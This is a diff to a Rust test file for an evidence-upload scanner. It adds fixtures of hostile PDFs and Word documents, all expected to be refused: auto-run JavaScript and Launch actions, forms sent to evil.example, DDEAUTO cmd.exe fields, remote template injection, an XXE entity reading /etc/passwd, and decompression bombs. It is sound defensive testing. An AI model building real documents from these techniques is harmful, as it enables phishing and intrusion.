@@ -1,9 +1,11 @@
 //! Test files like those that people send, and like those of people who mean
 //! harm.
 
-use super::FileType::{Docx, Heic, Jpeg, Pdf, Png};
-use super::content::{Refusal, judge};
-use super::{FileType, LARGEST_FILE};
+use domain::application::evidence::FileType::{Docx, Heic, Jpeg, Pdf, Png};
+use domain::application::evidence::content::Refusal;
+use domain::application::evidence::{FileType, LARGEST_FILE};
+
+use super::judge;
 
 #[test]
 fn what_people_send_is_taken_for_what_it_is() {
@@ -229,6 +231,202 @@ fn a_part_named_twice_or_otherwise_than_in_the_directory_is_refused() {
     assert_eq!(judge(&appended), Err(Refusal::Polyglot));
 }
 
+#[test]
+fn a_pdf_that_does_something_by_itself_is_refused_wherever_it_hides_that() {
+    let open = |action: &str| pdf(&format!("/OpenAction << /S /{action} >>"));
+    let files = [
+        ("script in an object stream", pdf_with_stream("<< /S /JavaScript /JS (1) >>")),
+        ("a program in an object stream", pdf_with_stream("<< /S /Launch /F (cmd) >>")),
+        ("a form that is sent", open("SubmitForm /F (https://evil.example)")),
+        ("data that is fetched", open("ImportData /F (a.fdf)")),
+        ("another file", open(r"GoToR /F (\\\\evil\\share\\a.pdf)")),
+        ("a file within", open("GoToE /T << >>")),
+        ("a website that opens by itself", open("URI /URI (https://evil.example)")),
+        ("the same by a reference", joined(&pdf("/OpenAction 7 0 R"), b"7 0 obj << /S /URI /URI (https://evil.example) >> endobj\n%%EOF")),
+        ("a script as a link", pdf("/A << /S /URI /URI (javascript:alert(1)) >>")),
+        ("a file as a link", pdf("/A << /S /URI /URI (file:///C:/a.exe) >>")),
+        ("a server's share as a link", pdf(r"/A << /S /URI /URI (\\\\evil\\share) >>")),
+        ("a link by a reference", joined(&pdf("/A << /S /URI /URI 7 0 R >>"), b"7 0 obj (javascript:1) endobj\n%%EOF")),
+        ("a hidden name", pdf("/OpenAction << /S /#4c#61unch >>")),
+        ("the kind by a reference", joined(&pdf("/A << /S 7 0 R >>"), b"7 0 obj /JavaScript endobj\n%%EOF")),
+        ("a film", pdf("/A << /S /Rendition >>")),
+        ("a sound", pdf("/A << /S /Sound >>")),
+        ("an action of a page", pdf("/AA << /O << /S /GoTo >> >>")),
+        ("a chain of actions", pdf("/A << /S /GoTo /Next 9 0 R >>")),
+        ("an attached file", pdf("/AF [<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>]")),
+        ("rich media", pdf("/Annots [<< /Subtype /RichMedia >>]")),
+        ("an XFA form", pdf("/AcroForm << /XFA 3 0 R >>")),
+        ("printing", open("Named /N /Print")),
+        ("a stream from elsewhere", joined(&pdf(""), b"7 0 obj << /F (https://evil.example) >> stream\nendstream\n%%EOF")),
+        ("an older revision", joined(&open("JavaScript"), &pdf(""))),
+        ("within another stream", joined(&pdf(""), b"7 0 obj << /Length 60 >> stream\n8 0 obj << /S /JavaScript >> endobj\nendstream\n%%EOF")),
+    ];
+    for (what, content) in files {
+        assert_eq!(judge(&content), Err(Refusal::Active), "{what}");
+    }
+    let unreadable = joined(
+        &pdf(""),
+        b"7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >> stream\nxx\nendstream\n%%EOF",
+    );
+    assert_eq!(judge(&unreadable), Err(Refusal::Damaged));
+    let bomb = object_stream("1 0 ", &" ".repeat(140_000_000));
+    assert_eq!(judge(&bomb), Err(Refusal::Bomb));
+    let deep = pdf(&"[".repeat(5_000_000));
+    assert_eq!(judge(&deep), Err(Refusal::Damaged));
+}
+
+#[test]
+fn a_word_document_that_brings_something_in_is_refused_whatever_its_parts_are_called() {
+    let relation = |kind: &str, target: &str, mode: &str| {
+        format!(
+            r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>"#
+        )
+    };
+    for (kind, target, mode) in [
+        (
+            "attachedTemplate",
+            "https://evil.example/a.dotm",
+            "External",
+        ),
+        ("oleObject", "https://evil.example/a.html!", "External"),
+        ("image", "https://evil.example/a.png", "External"),
+        ("hyperlink", "file://evil/share", "External"),
+        ("hyperlink", "javascript:alert(1)", "External"),
+        ("hyperlink", "\\\\evil\\share", "External"),
+        ("aFChunk", "a.htm", "Internal"),
+        ("oleObject", "media/a.png", "Internal"),
+        ("vbaProject", "media/a.png", "Internal"),
+        ("subDocument", "a.docx", "External"),
+        ("unheardOf", "a.xml", "Internal"),
+        ("frame", "https://evil.example", "External"),
+    ] {
+        let relations = relation(kind, target, mode);
+        let file = docx(vec![text("word/_rels/document.xml.rels", &relations)]);
+        assert_eq!(judge(&file), Err(Refusal::Active), "{kind} {target}");
+    }
+    let field = |words: &str| {
+        format!(
+            "<w:p><w:fldChar w:fldCharType=\"begin\"/>{words}<w:fldChar w:fldCharType=\"end\"/></w:p>"
+        )
+    };
+    for part in [
+        field("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
+        field("<w:instrText>D</w:instrText><w:instrText>&#68;E cmd</w:instrText>"),
+        field(&field("<w:instrText>QUOTE 68 68 69</w:instrText>")),
+        "<w:fldSimple w:instr=\"dde cmd\"/>".to_owned(),
+        "<w:fldSimple w:instr=\"INCLUDEPICTURE \\\\evil\\a\"/>".to_owned(),
+        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_owned(),
+        "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>&c;</a>".to_owned(),
+        "<v:imagedata src=\"https://evil.example/a.png\"/>".to_owned(),
+    ] {
+        let file = docx(vec![text("word/a.xml", &part)]);
+        assert_eq!(judge(&file), Err(Refusal::Active), "{part}");
+    }
+    let types = CONTENT_TYPES.replace("<Types>", "<Types><Override PartName=\"/word/a.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>");
+    let renamed = zip(&[
+        text("[Content_Types].xml", &types),
+        text("_rels/.rels", PACKAGE),
+        stored("word/document.xml"),
+        stored("word/a.dat"),
+    ]);
+    assert_eq!(judge(&renamed), Err(Refusal::Active));
+    let mut wrapped = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
+    wrapped.extend(b"E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0");
+    assert_eq!(judge(&wrapped), Err(Refusal::Locked));
+}
+
+#[test]
+fn a_document_whose_main_part_has_another_name_is_a_word_document() {
+    let types = CONTENT_TYPES.replace("document.xml", "document2.xml");
+    let package = PACKAGE.replace("document.xml", "document2.xml");
+    let file = zip(&[
+        text("[Content_Types].xml", &types),
+        text("_rels/.rels", &package),
+        stored("word/document2.xml"),
+    ]);
+    assert_eq!(judge(&file), Ok(Docx));
+}
+
+#[test]
+fn an_image_of_more_pixels_than_a_camera_takes_is_refused() {
+    assert_eq!(judge(&png(14_000, 14_000)), Err(Refusal::Bomb));
+    assert_eq!(judge(&jpeg(12_000, 9_000)), Ok(Jpeg));
+    let whole = png(1_200, 800);
+    assert_eq!(judge(&joined(&whole, &whole[whole.len() / 2..])), Ok(Png));
+    assert_eq!(judge(&joined(&whole, &[0; 16])), Ok(Png));
+}
+
+/// The files of many programs, made by `tests-data/make_honest_files.py`.
+#[test]
+fn the_files_that_many_programs_write_are_taken() {
+    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests-data/honest");
+    let mut refused = Vec::new();
+    let mut taken = 0;
+    for file in std::fs::read_dir(folder).unwrap() {
+        let path = file.unwrap().path();
+        let ending = path.extension().unwrap().to_str().unwrap();
+        match judge(&std::fs::read(&path).unwrap()) {
+            Ok(file_type) if file_type.ending() == ending => taken += 1,
+            other => refused.push(format!("{} {other:?}", path.display())),
+        }
+    }
+    assert!(refused.is_empty(), "{}", refused.join("\n"));
+    assert!(taken >= 100, "{taken}");
+}
+
+/// Changes the files of [`the_files_that_many_programs_write_are_taken`] and
+/// expects no panic: `cargo test --profile local -p scan-evidence
+/// no_file_of_a_program -- --ignored` runs 100,000 cases.
+#[test]
+#[ignore = "takes minutes"]
+fn no_file_of_a_program_however_broken_stops_the_judge() {
+    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests-data/honest");
+    let mut files: Vec<_> = std::fs::read_dir(folder)
+        .unwrap()
+        .map(|file| file.unwrap().path())
+        .collect();
+    files.sort();
+    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
+    let mut slowest = std::time::Duration::ZERO;
+    for file in &files {
+        let whole = std::fs::read(file).unwrap();
+        for _ in 0..100_000 / files.len() + 1 {
+            let mut broken = whole.clone();
+            for _ in 0..8 {
+                state ^= state << 13;
+                state ^= state >> 7;
+                state ^= state << 17;
+                let place = usize::try_from(state >> 32).unwrap() % broken.len();
+                broken[place] = u8::try_from(state & 0xFF).unwrap();
+            }
+            let began = std::time::Instant::now();
+            let _ = judge(&broken);
+            slowest = slowest.max(began.elapsed());
+        }
+    }
+    assert!(slowest.as_secs() < 5, "{slowest:?}");
+}
+
+fn pdf_with_stream(object: &str) -> Vec<u8> {
+    object_stream("9 0 ", object)
+}
+
+fn object_stream(header: &str, objects: &str) -> Vec<u8> {
+    let packed =
+        miniz_oxide::deflate::compress_to_vec_zlib(format!("{header}{objects}").as_bytes(), 6);
+    let head = format!(
+        "7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >> stream\n",
+        packed.len()
+    );
+    [
+        pdf("").as_slice(),
+        head.as_bytes(),
+        &packed,
+        b"\nendstream endobj\n%%EOF\n",
+    ]
+    .concat()
+}
+
 /// Judges files that are cut anywhere and have any byte changed, and expects no
 /// panic: 100,000 cases.
 #[test]
@@ -310,6 +508,15 @@ fn stored(name: &str) -> Part<'_> {
     Part(name, b"<xml/>", 6, 0, 0)
 }
 
+const CONTENT_TYPES: &str = r#"<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
+
+const PACKAGE: &str = r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
+
+fn text<'a>(name: &'a str, content: &'a str) -> Part<'a> {
+    let size = u32::try_from(content.len()).unwrap();
+    Part(name, content.as_bytes(), size, 0, 0)
+}
+
 fn zip(parts: &[Part<'_>]) -> Vec<u8> {
     let (mut file, mut directory) = (Vec::new(), Vec::new());
     for Part(name, content, unpacked, flags, method) in parts {
@@ -346,7 +553,11 @@ fn zip(parts: &[Part<'_>]) -> Vec<u8> {
 }
 
 fn docx(more: Vec<Part<'_>>) -> Vec<u8> {
-    let mut parts = vec![stored("[Content_Types].xml"), stored("word/document.xml")];
+    let mut parts = vec![
+        text("[Content_Types].xml", CONTENT_TYPES),
+        text("_rels/.rels", PACKAGE),
+        stored("word/document.xml"),
+    ];
     parts.extend(more);
     zip(&parts)
 }
@@ -363,8 +574,8 @@ fn overlapping() -> Vec<u8> {
     // before, and the entry of the last part is led there.
     let header = file.len()
         - 22
-        - 4 * 46
-        - "[Content_Types].xmlword/document.xmlword/a.xmlword/b.xml".len()
+        - 5 * 46
+        - "[Content_Types].xml_rels/.relsword/document.xmlword/a.xmlword/b.xml".len()
         - 30
         - 10;
     let copy: Vec<u8> = file[header..header + 40].to_vec();
